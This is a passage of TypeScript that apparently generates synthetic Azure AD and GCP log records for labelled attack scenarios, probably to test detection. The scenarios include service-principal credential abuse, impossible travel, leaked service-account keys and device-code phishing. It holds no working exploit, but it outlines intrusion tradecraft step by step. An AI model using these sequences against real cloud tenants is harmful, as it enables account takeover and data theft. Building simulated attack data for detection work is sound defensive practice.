      for (let k = 0; k < 6; k++) signIn({ t: t0 + (6 + k * 7) * 60000, u: victim, app: pick(['teams', 'outlook']), res: pick(['graph', 'exo', 'spo']), ip: src.ip, site: src.site, dev: null, interactive: false, session, ua: ua.python });
      rec.close();
    });
  }

  // 11. sp-credential-abuse: a compromised app owner adds a credential to an app; the app signs in from a new IP and acts
  {
    const cert = seed % 2 === 1; const sameCountry = seed % 3 === 0;
    const owner = take((u) => u.pop === 'devops', 'devops user');
    const app = wl.apps[seed % 2 === 1 ? 0 : 3]!;
    const day = nextDay();
    plan.at(day, () => {
      const src = sameCountry ? hosting(owner.home.cc) : hosting(); const t0 = w.workTime(day, owner.home, 17, 21);
      const variant = `${cert ? 'certificate-on-sp' : 'secret-on-app'}${sameCountry ? '-same-country' : ''}`;
      attack(`sp-credential-abuse-${variant}`, 'sp-credential-abuse', variant, `An app owner's account (session hijacked) adds a ${cert ? 'certificate to the service principal' : 'client secret to the app registration'} of ${app.name}; the app then signs in with that credential from a hosting IP, reads mail through Graph and grants itself an app role`, [T, 'T1098.001', 'T1550.001']);
      signIn({ t: t0, u: owner, app: 'graphps', res: 'graph', ip: src.ip, site: src.site, dev: null, interactive: false, ua: 'Mozilla/5.0 (Windows NT 10.0; Microsoft Windows 10.0.22631; en-US) PowerShell/7.4.1' });
      const keyId = guid();
      if (cert) audit(t0 + 120000, 'Add service principal credentials', 'ApplicationManagement', { upn: owner.upn, id: owner.id, ip: src.ip }, [{ id: app.spId, displayName: app.name, type: 'ServicePrincipal', modifiedProperties: keyProp(keyId, 'AsymmetricX509Cert', 'CN=sync-renewal') }]);
      else audit(t0 + 120000, 'Update application – Certificates and secrets management ', 'ApplicationManagement', { upn: owner.upn, id: owner.id, ip: src.ip }, [{ id: app.objectId, displayName: app.name, type: 'Application', modifiedProperties: keyProp(keyId, 'Password', 'backup', [`[KeyIdentifier=${app.keyId},KeyType=Password,KeyUsage=Verify,DisplayName=prod]`]) }]);
      const stolen = { ...app, keyId, thumb: cert ? hex(40).toUpperCase() : '', credType: cert ? 'clientAssertion' as const : 'clientSecret' as const };
      for (let k = 0; k < 6; k++) w.spSignIn({ t: t0 + 600000 + k * 600000, app: stolen, ip: src.ip, site: src.site, res: k < 4 ? 'graph' : 'exo', ua: ua.python });
      audit(t0 + 1500000, 'Add app role assignment to service principal', 'ApplicationManagement', { app: app.name, appId: app.appId, spId: app.spId }, [{ id: app.spId, displayName: app.name, type: 'ServicePrincipal', modifiedProperties: [{ displayName: 'AppRole.Value', oldValue: null, newValue: '"Mail.Read"' }] }]);
      rec.add('cloud', app.name, app.appId);
      rec.close();
    });
  }

  // 12. low-and-slow: one quiet sign-in a day for several days from a network new to the user, reading mail / Graph
  {
    const victim = take((u) => u.pop === 'regular', 'regular user');
    const local = seed % 2 === 1; const n = Math.max(1, Math.min(3 + (seed % 5), last - first + 1));
    const d0 = Math.max(first, Math.min(last - n + 1, nextDay()));
    const src = { v: null as null | { ip: string; site: Site } };
    let label: ReturnType<typeof attack> | null = null;
    for (let k = 0; k < n; k++) {
      const day = d0 + k;
      plan.at(day, () => {
        if (!src.v) src.v = local ? residential(victim.home.cc, victim.homeIsp) : foreign();
        const s = src.v;
        if (!label) label = attack(`low-and-slow-${local ? 'own-country-residential' : 'foreign-residential'}`, 'low-and-slow', `${n}-days-${local ? 'own-country-residential' : 'foreign-residential'}`, `A phished password used once a day for ${n} days from one ${local ? 'residential proxy in the user\'s own country' : 'residential network abroad'}, reading mail and Graph, quietly`, [T, 'T1078.004', 'T1114.002']);
        else rec.resume(label);
        const t = w.workTime(day, victim.home, 11, 15);
        signIn({ t, u: victim, app: k % 2 ? 'graphexplorer' : 'owa', res: k % 2 ? 'graph' : 'exo', ip: s.ip, site: s.site, dev: null, interactive: true, mfa: true, mfaMethod: 'Mobile app notification', ua: CLI_UA.chrome });
        signIn({ t: t + int(5, 20) * 60000, u: victim, app: k % 2 ? 'graphexplorer' : 'owa', res: k % 2 ? 'graph' : 'exo', ip: s.ip, site: s.site, dev: null, interactive: false, ua: CLI_UA.chrome });
        rec.close();
      });
    }
  }

  // 13. impossible-travel: sign-in at home, then a successful sign-in far away within the hour, then control-plane use
  {
    const victim = take((u) => u.pop === 'regular' && (u.home.cc === 'US' || u.home.cc === 'DE'), 'regular user');
    const viaVps = seed % 2 === 0;
    const day = nextDay();
    plan.at(day, () => {
      const src = viaVps ? hosting(victim.home.cc === 'US' ? 'JP' : 'SG') : foreign(); const t0 = w.workTime(day, victim.home, 9, 15); const own = w.officeIp(victim.office, t0);
      attack(`impossible-travel-${viaVps ? 'vps-other-continent' : 'foreign-residential'}`, 'impossible-travel', viaVps ? 'vps-other-continent' : 'foreign-residential', 'The user signs in at the office; 25-50 minutes later a successful sign-in with the stolen password and an approved push arrives from another continent, followed by the Azure portal and Azure CLI', [T, 'T1078.004']);
      signIn({ t: t0, u: victim, app: 'outlook', res: 'exo', ip: own, site: victim.home, dev: victim.device, interactive: true, mfa: true });
      const t1 = t0 + int(25, 50) * 60000;
      signIn({ t: t1, u: victim, app: 'portal', res: 'arm', ip: src.ip, site: src.site, dev: null, interactive: true, mfa: true, ua: CLI_UA.chrome });
      signIn({ t: t1 + 300000, u: victim, app: 'azcli', res: 'arm', ip: src.ip, site: src.site, dev: null, interactive: true, mfa: true, ua: CLI_UA.az('Linux') });
      for (let k = 0; k < 3; k++) signIn({ t: t1 + 600000 + k * 300000, u: victim, app: 'azcli', res: pick(['arm', 'graph']), ip: src.ip, site: src.site, dev: null, interactive: false, ua: CLI_UA.az('Linux') });
      rec.close();
    });
  }

  // 14. gcp-keys: stolen gcloud user credentials or a leaked service-account key used from a new source
  {
    const saKey = seed % 2 === 0;
    const victim = saKey ? null : take((u) => u.pop === 'devops', 'devops user');
    const day = nextDay();
    plan.at(day, () => {
      const src = hosting(); const t0 = w.dayStart(day) + int(2, 22) * 3600000;
      const sa = `ci-deployer@${gcpProject}.iam.gserviceaccount.com`;
      if (saKey) {
        attack('gcp-keys-sa-key-leak', 'gcp-keys', 'service-account-key-from-vps', 'The CI service account\'s JSON key (leaked from a build log) is used from a VPS: buckets listed and read, a new key created for persistence, the project IAM policy changed', [T, 'T1552.001', 'T1098.001']);
        const uaSa = 'google-cloud-sdk gcloud/467.0.0 command/gcloud.storage.ls invocation-id/' + hex(32) + ' environment/None client-os/LINUX interactive/True';
        gcp(t0, sa, 'storage.buckets.list', 'storage.googleapis.com', src.ip, uaSa, `projects/_/buckets`);
        for (let k = 0; k < 4; k++) gcp(t0 + (k + 1) * 60000, sa, 'storage.objects.get', 'storage.googleapis.com', src.ip, uaSa, `projects/_/buckets/nw-prod-backups/objects/db-${hex(6)}.sql.gz`);
        gcp(t0 + 600000, sa, 'google.iam.admin.v1.CreateServiceAccountKey', 'iam.googleapis.com', src.ip, uaSa, `projects/${gcpProject}/serviceAccounts/${sa}`);
        gcp(t0 + 900000, sa, 'SetIamPolicy', 'cloudresourcemanager.googleapis.com', src.ip, uaSa, `projects/${gcpProject}`);
      } else {
        const v = victim!;
        attack('gcp-keys-user-credentials', 'gcp-keys', 'gcloud-user-credentials-from-vps', 'A DevOps engineer\'s gcloud user credentials (credentials.db) used from a VPS: compute and IAM enumeration, a service-account key created and then used from the same VPS', [T, 'T1552.001', 'T1550.001']);
        const uaU = CLI_UA.gcloud(); rec.add('accounts', v.upn);
        gcp(t0, v.upn, 'v1.compute.instances.aggregatedList', 'compute.googleapis.com', src.ip, uaU, `projects/${gcpProject}`);
        gcp(t0 + 60000, v.upn, 'google.iam.admin.v1.ListServiceAccounts', 'iam.googleapis.com', src.ip, uaU, `projects/${gcpProject}`);
        gcp(t0 + 240000, v.upn, 'google.iam.admin.v1.CreateServiceAccountKey', 'iam.googleapis.com', src.ip, uaU, `projects/${gcpProject}/serviceAccounts/${sa}`);
        for (let k = 0; k < 3; k++) gcp(t0 + 600000 + k * 120000, sa, pick(['storage.objects.list', 'v1.compute.instances.setMetadata', 'google.container.v1.ClusterManager.GetCluster']), pick(['storage.googleapis.com', 'compute.googleapis.com', 'container.googleapis.com']), src.ip, uaU, `projects/${gcpProject}`);
      }
      rec.add('cloud', sa);
      rec.close();
    });
  }

  // 15. (other) device-code phishing (Storm-2372 style): the user completes a device-code sign-in the attacker started
  {
    const victim = take((u) => u.pop === 'regular', 'regular user');
    const day = nextDay();
    plan.at(day, () => {
      const src = hosting(seed % 2 ? victim.home.cc : undefined); const t0 = w.workTime(day, victim.home, 9, 17); const own = victim.homeIp;
      attack('device-code-phishing', 'other', seed % 2 ? 'device-code-phishing-same-country' : 'device-code-phishing', 'Device-code phishing: the user enters a code from a fake meeting invite; the deviceCode sign-in is the user\'s own, then the attacker redeems and refreshes the tokens from a hosting network (same session), searches mail via Graph and registers a device with the broker client', [T, 'T1528', 'T1566.002', 'T1098.005'], [own]);
      const session = guid();
      signIn({ t: t0, u: victim, app: 'broker', res: 'graph', ip: own, site: victim.home, dev: null, interactive: true, mfa: true, protocol: 'deviceCode', session, ua: CLI_UA.chrome });
      signIn({ t: t0 + 40000, u: victim, app: 'broker', res: 'graph', ip: src.ip, site: src.site, dev: null, interactive: false, session, ua: ua.python, protocol: 'deviceCode' });
      for (let k = 0; k < 5; k++) signIn({ t: t0 + 120000 + k * 240000, u: victim, app: 'broker', res: pick(['graph', 'exo']), ip: src.ip, site: src.site, dev: null, interactive: false, session, ua: ua.python });
      const nd = w.mkDevice(null, 'Windows', 'DESKTOP-'); nd.name = `DESKTOP-${hex(7).toUpperCase()}`;
      signIn({ t: t0 + 1500000, u: victim, app: 'broker', res: 'drs', ip: src.ip, site: src.site, dev: null, interactive: false, session, ua: 'Dsreg/10.0 (Windows 10.0.19045.4170)' });
      audit(t0 + 1510000, 'Register device', 'Device', { upn: victim.upn, id: victim.id, ip: src.ip }, [deviceTarget(nd)], { service: 'Device Registration Service' });
      rec.add('devices', nd.name);
      rec.close();
    });
  }
  void awsCmd; void gcloudCmd; void r;
}
